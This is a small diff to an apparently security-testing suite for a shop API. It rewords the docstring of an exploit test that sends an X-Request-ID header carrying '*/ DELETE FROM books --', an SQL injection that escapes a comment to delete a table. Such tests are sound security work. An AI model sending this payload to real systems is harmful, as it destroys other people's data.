@@ -37,7 +37,7 @@ def read_the_counters(shop: Shop) -> Outcome:
 
 @exploit("9.5", "API8", "SQL in the name of a request")
 def delete_through_the_health_check(shop: Shop) -> Outcome:
-    """The header ends the comment in which it stands. What comes next is executed, and the rest is a comment again."""
+    """The header ends the comment in which it stands. What comes next is executed, the rest of the line is none."""
     attacker = shop.client()
     before = books(shop, 1)
     attacker.get("/api/health", headers={"X-Request-ID": "*/ DELETE FROM books --"})
